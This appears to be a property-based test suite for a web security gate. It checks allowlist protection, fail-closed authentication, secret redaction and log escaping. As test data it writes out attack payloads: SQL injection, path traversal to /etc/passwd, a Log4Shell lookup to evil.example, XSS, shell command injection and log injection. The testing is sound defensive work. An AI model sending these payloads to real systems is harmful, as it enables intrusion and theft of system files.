import assert from 'node:assert/strict';
import fc from 'fast-check';
import { FakeClock } from '../../helpers/fake-clock';
import { makeFacts, makeSecurity } from '../../helpers/security-fixture';

/** Things an attacker, or a tool gone wild, may send. */
const hostile = fc.record({
  method: fc.constantFrom('GET', 'POST', 'TRACE'),
  target: fc.constantFrom(
    '/.env',
    '/wp-login.php',
    '/.git/config',
    '/admin',
    '/actuator',
    '/x?id=1%27%20union%20select%20password%20from%20users--',
    '/%2e%2e/%2e%2e/etc/passwd',
    '/x?q=${jndi:ldap://evil.example/a}',
    '/x?q=<script>alert(1)</script>',
    '/cgi-bin/test.cgi?c=;cat%20/etc/passwd',
    '/v1/models',
  ),
  headers: fc.constantFrom<Record<string, string>>(
    { 'user-agent': 'sqlmap/1.7' },
    { authorization: 'Bearer wrong-1' },
    { authorization: 'Bearer wrong-2' },
    { authorization: 'Bearer wrong-3' },
    { authorization: 'Bearer wrong-4' },
    { authorization: 'Bearer wrong-5' },
    { authorization: 'Bearer decoy-1' },
    {},
  ),
});
const protectedAddress = fc.constantFrom(
  '127.0.0.1',
  '127.8.9.10',
  '::1',
  '::ffff:127.0.0.1',
  '192.0.2.1', // this machine's own, see the fixture
  'fe80::1',
  '192.0.2.250', // a trusted proxy that names no client
  '2001:db8:7::80',
  '198.51.100.77', // on the allowlist below
  '2001:db8:5::9',
  '', // a Unix socket
);

describe('what must never happen', () => {
  it('blocks neither loopback, nor this machine, nor a trusted proxy, nor the allowlist, whatever they send', () => {
    fc.assert(
      fc.property(protectedAddress, fc.array(hostile, { minLength: 20, maxLength: 60 }), (from, requests) => {
        const { gate, services } = makeSecurity({
          clock: new FakeClock(),
          policy: {
            allowlist: ['198.51.100.0/24', '2001:db8:5::/48'],
            trustedProxies: ['192.0.2.250', '2001:db8:7::/64', '127.0.0.1'],
          },
        });

        for (const request of requests) gate.admit(makeFacts({ ...request, from }));
        for (let i = 0; i < 30; i++) gate.report({ type: 'malformed', address: from, reason: `HPE_${i}` });
        for (let i = 0; i < 30; i++) gate.report({ type: 'slow-upload', facts: makeFacts({ from }) });
        gate.report({ type: 'connection', address: from, open: 5000 });
        const after = gate.admit(makeFacts({ from, headers: { authorization: 'Bearer good-1' } }));

        assert.ok(after.ok, JSON.stringify(after));
        assert.equal(services.blocklist.list().length, 0);
        services.dispose();
      }),
      { numRuns: 60 },
    );
  });

  it('refuses a manual block of loopback, this machine, the allowlist or everybody', () => {
    const { services } = makeSecurity({ clock: new FakeClock(), policy: { allowlist: ['198.51.100.0/24'] } });
    for (const range of ['127.0.0.1', '127.0.0.0/8', '::1', '::ffff:127.0.0.1', '192.0.2.1', '0.0.0.0/0', '::/0']) {
      assert.notEqual(services.blocklist.refusalOf(range), undefined, range);
    }
    services.dispose();
  });

  it('lets protected addresses in even inside a blocked range', async () => {
    const { gate, services } = makeSecurity({ clock: new FakeClock(), policy: { allowlist: ['198.51.100.7'] } });
    await services.blocklist.add({ range: '198.51.100.0/24', rule: 'manual', reason: 'test' });
    await services.blocklist.add({ range: '192.0.0.0/8', rule: 'manual', reason: 'test' });
    const headers = { authorization: 'Bearer good-1' };

    assert.ok(gate.admit(makeFacts({ from: '198.51.100.7', headers })).ok);
    assert.ok(gate.admit(makeFacts({ from: '192.0.2.1', headers })).ok);
    assert.ok(!gate.admit(makeFacts({ from: '198.51.100.8', headers })).ok);
    services.dispose();
  });

  it('never blocks on a single request, whatever it is', () => {
    fc.assert(
      fc.property(hostile, fc.string({ maxLength: 300 }), (request, junk) => {
        const { gate, services } = makeSecurity({ clock: new FakeClock() });
        gate.admit(makeFacts({ ...request, target: request.target + junk }));
        assert.equal(services.blocklist.list().length, 0);
        services.dispose();
      }),
      { numRuns: 60 },
    );
  });

  it('counts what all services find in one request as one request', () => {
    const { gate, services, detections } = makeSecurity({ clock: new FakeClock() });
    const headers = { authorization: 'Bearer decoy-1' };
    gate.admit(makeFacts({ method: 'TRACE', target: '/.env', headers }));
    assert.equal(services.blocklist.list().length, 0);
    const gained = detections.reduce((sum, detection) => sum + detection.gained, 0);
    assert.ok(gained > 0 && gained <= services.gate.policy.scoring.perRequest, `${gained} points`);
    services.dispose();
  });

  it('never blocks on the same evidence over and over', () => {
    const { gate, services } = makeSecurity({ clock: new FakeClock() });
    for (let i = 0; i < 200; i++) gate.admit(makeFacts({ target: '/x?id=1%27%20union%20select%20a%20from%20b--' }));
    assert.equal(services.blocklist.list().length, 0);
    services.dispose();
  });

  it('never throws and never finds an exception in a detector worth a refusal', () => {
    const { gate, services, events } = makeSecurity({ clock: new FakeClock() });
    const facts = makeFacts({ headers: { authorization: 'Bearer good-1' } });
    const broken = new Proxy(facts, {
      get: (target, name) => {
        if (name === 'rawHeaders') throw new Error('a detector broke');
        return Reflect.get(target, name) as unknown;
      },
    });

    assert.ok(gate.admit(broken).ok);
    assert.ok(events.some(({ rule }) => rule === 'intrusion.failed'));
    services.dispose();
  });

  it('fails closed when identity cannot be checked', () => {
    const { gate, services } = makeSecurity({
      clock: new FakeClock(),
      authenticator: {
        verify: () => {
          throw new Error('store is gone');
        },
      },
    });

    const admission = gate.admit(makeFacts({ from: '127.0.0.1' }));

    assert.ok(!admission.ok);
    assert.equal(admission.refusal.code, 'internal_error');
    services.dispose();
  });

  it('keeps neither keys nor cookies in what it records', () => {
    const { gate, services, events } = makeSecurity({ clock: new FakeClock() });
    const secret = 'flm-abcdefabcdef-THE-SECRET-PART';
    gate.admit(
      makeFacts({
        target: '/.env',
        headers: { authorization: `Bearer ${secret}`, cookie: `sid=${secret}; x=<script>alert(1)</script>` },
      }),
    );
    assert.ok(!JSON.stringify(events).includes('THE-SECRET-PART'));
    services.dispose();
  });

  it('writes attacker-made text escaped', () => {
    const { gate, services, events } = makeSecurity({ clock: new FakeClock() });
    gate.admit(makeFacts({ target: "/x?q=1'%0a%0dINFO:%20fake%20line%20or%201=1--%e2%80%ae" }));
    assert.ok(events.length > 0);

    for (const { evidence = '' } of events) assert.doesNotMatch(evidence, /[\u0000-\u001f\u202e]/);
    services.dispose();
  });
});
